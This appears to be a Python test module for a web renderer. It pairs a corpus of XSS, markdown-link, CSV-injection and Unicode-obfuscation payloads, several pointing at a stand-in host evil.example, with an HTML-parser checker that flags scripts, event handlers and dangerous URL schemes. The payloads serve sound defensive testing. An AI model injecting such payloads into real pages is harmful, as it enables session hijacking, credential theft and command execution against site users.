"""Texts that have run scripts, broken pages or fooled readers somewhere, and what may never stand in a page of ours."""

from html.parser import HTMLParser

PWNED = "window.__pwned=1"

CORPUS: tuple[str, ...] = (
    f"<script>{PWNED}</script>",
    f"<ScRiPt>{PWNED}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{PWNED}</scr</script>ipt>",
    f'"><script>{PWNED}</script>',
    f"'><script>{PWNED}</script>",
    f"</title><script>{PWNED}</script>",
    f"</textarea><script>{PWNED}</script>",
    f"<img src=x onerror={PWNED}>",
    f'<img src="x" onerror="{PWNED}">',
    f"<img/src=x/onerror={PWNED}>",
    f"<img src=x\nonerror={PWNED}>",
    f"<svg onload={PWNED}>",
    f"<svg><script>{PWNED}</script></svg>",
    f"<svg><animate onbegin={PWNED} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{PWNED}'><text y=9>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWNED}>",
    f"<math href='javascript:{PWNED}'>x</math>",
    f"<body onload={PWNED}>",
    f"<iframe src='javascript:{PWNED}'></iframe>",
    f"<iframe srcdoc='<script>parent.{PWNED}</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/)'>x</p>",
    "<form action='//evil.example/'><input name=password></form>",
    f"<button onclick={PWNED}>x</button>",
    f"<details open ontoggle={PWNED}>x</details>",
    f"<input autofocus onfocus={PWNED}>",
    f"<marquee onstart={PWNED}>x</marquee>",
    f"<video><source onerror={PWNED}></video>",
    f"<audio src=x onerror={PWNED}>",
    f"<a href='javascript:{PWNED}'>x</a>",
    f"<a href=' java\tscript:{PWNED}'>x</a>",
    "<template><script>1</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={PWNED}>'>",
    f"<!--><script>{PWNED}</script>-->",
    f"<![CDATA[<script>{PWNED}</script>]]>",
    "<?php echo 1 ?>",
    f"<xss id=x tabindex=1 onfocus={PWNED}></xss>",
    f"[x](javascript:{PWNED})",
    f"[x](JaVaScRiPt:{PWNED})",
    f"[x](java\tscript:{PWNED})",
    f"[x](&#106;avascript:{PWNED})",
    f"[x](&#x6A;&#x61;vascript&colon;{PWNED})",
    f"[x](javascript&#58;{PWNED})",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml,<svg onload=1>)",
    f"[x](<javascript:{PWNED}>)",
    f"[x][1]\n\n[1]: javascript:{PWNED}",
    f"<javascript:{PWNED}>",
    f"![x](javascript:{PWNED})",
    f'![x"onerror="{PWNED}](x)',
    f'[x](https://a.example/"onmouseover="{PWNED})',
    f"[x](https://a.example 'x\"onmouseover={PWNED}//')",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    f"[<img src=x onerror={PWNED}>](https://a.example)",
    f"`<script>{PWNED}</script>`",
    f"```html\n<script>{PWNED}</script>\n```",
    f'```"><script>{PWNED}</script>\nx\n```',
    f"> <script>{PWNED}</script>",
    f"- <img src=x onerror={PWNED}>",
    f"# <script>{PWNED}</script>",
    f"|a|\n|-|\n|<script>{PWNED}</script>|",
    f"&lt;script&gt;{PWNED}&lt;/script&gt;",
    f"&amp;lt;script>{PWNED}",
    f"\\<script>{PWNED}</script>",
    f"%3Cscript%3E{PWNED}%3C/script%3E",
    f"\u202e<script>{PWNED}</script>",
    f"＜script＞{PWNED}＜/script＞",
    f"<scr\u200bipt>{PWNED}</script>",
    "\u2066\u2067\u2068\u202d" * 5,
    f"<script\x0c>{PWNED}</script>",
    f"<img src=x onerror\x0b={PWNED}>",
    "{{ 7|add:7 }}{% load x %}",
    f"${{{PWNED}}}",
    f"#<script>{PWNED}</script>",
    f"@<img/src=x/onerror={PWNED}>",
    f"https://a.example/<script>{PWNED}</script>",
    f'https://a.example/?q="onclick={PWNED}',
    f"javascript:{PWNED}//https://a.example",
    "=cmd|'/c calc'!A1",
    "+1+cmd|x",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "＝1+1",
    "*" * 300,
    "[" * 300,
    "> " * 100 + "x",
    "_" * 200 + "x",
)

OURS = frozenset({"script", "link", "meta", "form", "style", "svg", "use", "path", "title"})
ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"})
FORBIDDEN = frozenset({"iframe", "object", "embed", "base", "math", "applet", "frame", "frameset", "marquee"})


class Judge(HTMLParser):
    """Reads a page as a browser would and notes what runs or leads astray."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        named = {name: (value or "") for name, value in attrs}
        if tag in FORBIDDEN:
            self.wrong.append(f"<{tag}>")
        if tag == "script" and not (
            named.get("src", "").startswith("/") or named.get("type") in {"application/json", "application/ld+json"}
        ):
            self.wrong.append(f"<script> {named}")
        if tag == "style" or "style" in named:
            self.wrong.append(f"style at <{tag}>")
        if tag == "meta" and "http-equiv" in named:
            self.wrong.append("<meta http-equiv>")
        self.wrong += [f"{name} at <{tag}>" for name in named if name.startswith("on")]
        for name in ADDRESSES & named.keys():
            leads = "".join(one for one in named[name] if one > " ").lower()
            if leads.startswith(("javascript:", "vbscript:", "data:", "file:", "blob:")) and not (
                tag == "img" and leads.startswith("data:image/png")
            ):
                self.wrong.append(f"{name}={named[name][:60]} at <{tag}>")
            if leads.startswith(("//", "/\\", "\\")) or (
                tag in {"form", "link", "script", "base"} and "evil.example" in leads
            ):
                self.wrong.append(f"{name}={named[name][:60]} at <{tag}>")


def wrong_in(page: str) -> list[str]:
    """What runs or leads astray in a page."""
    judge = Judge()
    judge.feed(page)
    judge.close()
    return judge.wrong
